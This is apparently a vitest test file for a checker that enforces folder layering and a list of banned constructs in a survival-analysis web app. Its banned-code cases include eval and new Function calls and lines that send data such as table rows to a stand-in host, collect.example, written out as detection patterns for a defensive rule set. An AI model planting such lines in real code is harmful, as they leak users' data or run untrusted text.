import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { breaches } from '../../scripts/layers/check.mjs';
import { banned } from '../../scripts/layers/rules.mjs';

let root: string;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'layers-'));
});
afterEach(() => rmSync(root, { recursive: true }));

function write(file: string, text: string): void {
  mkdirSync(dirname(join(root, file)), { recursive: true });
  writeFileSync(join(root, file), text);
}

/** What the checker says of a project that consists of these files. */
function breachesOf(files: Record<string, string>): string[] {
  for (const [file, text] of Object.entries(files)) write(file, text);
  return breaches(root);
}

describe('dependencies', () => {
  it('lets a topic use those below it', () => {
    expect(
      breachesOf({
        'core/base/result.h': '',
        'core/survival/kaplan_meier.cpp': '#include "core/base/result.h"\n#include <vector>',
        'web/format/numbers.ts': '',
        'web/survival/panel.tsx': "import { months } from '../format/numbers.ts';",
      }),
    ).toEqual([]);
  });

  it('names the whole path to an include that goes upwards', () => {
    const [breach] = breachesOf({
      'core/analysis/run.cpp': '#include "core/survival/kaplan_meier.h"',
      'core/survival/kaplan_meier.h': '#include "core/regression/cox.h"',
      'core/regression/cox.h': '',
    });
    expect(breach).toContain(
      'core/analysis/run.cpp -> core/survival/kaplan_meier.h -> core/regression/cox.h',
    );
    expect(breach).toContain('core/survival may not use core/regression');
  });

  it('catches a feature that imports a feature', () => {
    const [breach] = breachesOf({
      'web/main.tsx': "import { Panel } from './survival/panel';",
      'web/survival/panel.tsx': "import { hazardRatio } from '../regression/words.ts';",
      'web/regression/words.ts': '',
    });
    expect(breach).toContain('web/main.tsx -> web/survival/panel.tsx -> web/regression/words.ts');
    expect(breach).toContain('features do not import features');
  });

  it.each([
    "import cox from '../regression/cox.ts';",
    "import type { Cox } from '../regression/cox.ts';",
    "import {\n  a,\n  b,\n} from '../regression/cox.ts';",
    "export * from '../regression/cox.ts';",
    "export { a } from '../regression/cox.ts';",
    "import '../regression/cox.ts';",
    "const cox = await import('../regression/cox.ts');",
    "import text from '../regression/cox.ts?raw';",
  ])('sees %j', (statement) => {
    expect(breachesOf({ 'web/survival/panel.ts': statement })).toHaveLength(1);
  });

  it('lets anyone read the types of the engine, and only its worker and the runner load it', () => {
    const types = "import type { Results } from '../../build/wasm/riskset.js';";
    const code = "import start from '../../build/wasm/riskset.js';";
    expect(breachesOf({ 'web/survival/a.ts': types, 'web/engine/worker.ts': code })).toEqual([]);
    expect(breachesOf({ 'web/survival/b.ts': code })).toHaveLength(1);
  });

  it('refuses a folder that no rule knows', () => {
    const found = breachesOf({
      'core/novelty/a.cpp': '#include "core/base/result.h"',
      'web/novelty/a.ts': "import { months } from '../format/numbers.ts';",
    });
    expect(found).toHaveLength(2);
    for (const breach of found) expect(breach).toContain('lies in no folder that the rules know');
  });
});

describe('what must not be written', () => {
  const cases: [file: string, text: string, what: string][] = [
    ['core/base/a.cpp', '#include <iostream>', 'a stream'],
    ['core/base/a.h', '#include <emscripten/val.h>', 'an Emscripten header'],
    ['core/base/a.h', '#include <locale>', 'a locale'],
    ['core/base/a.cpp', 'long  double x;', 'long double'],
    ['core/tables/a.cpp', '#include <boost/math/special_functions/beta.hpp>', 'Boost.Math'],
    ['core/regression/a.cpp', '#include <Eigen/Dense>', 'Eigen'],
    ['core/analysis/a.cpp', '#include <nlohmann/json.hpp>', 'nlohmann-json'],
    ['wasm/bindings.cpp', 'return std::exp(x);', 'arithmetic'],
    ['web/survival/a.ts', 'const y = Math.exp(x);', 'arithmetic of a statistic'],
    ['web/share/a.ts', 'document.location = address;', 'navigation by script'],
    ['web/share/a.ts', "location.href = 'x';", 'navigation by script'],
    ['web/share/a.ts', 'location.assign(address);', 'navigation by script'],
    ['web/share/a.ts', 'window.open(address);', 'a new window'],
    ['web/share/a.ts', 'new RTCPeerConnection();', 'WebRTC'],
    ['web/share/a.ts', 'eval(code);', 'text run as a program'],
    ['web/share/a.ts', 'new Function(code);', 'text run as a program'],
    ['web/share/a.ts', "setTimeout('alert(1)', 9);", 'text run as a program'],
    ['web/share/a.ts', "image.src = 'https://collect.example/x';", 'a remote address'],
    ['web/share/a.ts', 'image.src = `//collect.example/${rows}`;', 'a remote address'],
    ['web/share/a.ts', "const line = 'wss://collect.example';", 'a remote address'],
    ['web/offline/a.ts', 'await fetch(event.data);', 'a connection of the service worker'],
    ['web/offline/a.ts', 'importScripts(address);', 'a connection of the service worker'],
    [
      'web/offline/a.ts',
      'await clients.openWindow(address);',
      'a connection of the service worker',
    ],
    ['web/data/a.ts', 'await fetch(address);', 'a connection'],
    ['web/data/a.ts', 'new XMLHttpRequest();', 'a connection'],
    ['web/data/a.ts', 'new WebSocket(address);', 'a connection'],
    ['web/data/a.ts', 'new EventSource(address);', 'a connection'],
    ['web/data/a.ts', 'navigator.sendBeacon(address);', 'a connection'],
  ];

  it.each(cases)('%s: %s', (file, text, what) => {
    const found = breachesOf({ [file]: text });
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(`${file}:1 has ${what}`);
  });

  it('has a case above for every rule', () => {
    const proven = new Set(cases.map(([, , what]) => what));
    expect(banned.map(({ what }) => what).filter((what) => !proven.has(what))).toEqual([]);
  });

  it('stays silent where a rule makes an exception, and about comments', () => {
    expect(
      breachesOf({
        'core/distributions/a.cpp': '#include <boost/math/distributions.hpp>\n// no iostream here',
        'core/linear/a.cpp': '#include <Eigen/Dense>',
        'web/figures/a.ts': 'const y = Math.log(x);',
        'web/data/a.ts': "// we never fetch(anything)\nif (location.protocol === 'file:') start();",
      }),
    ).toEqual([]);
  });
});
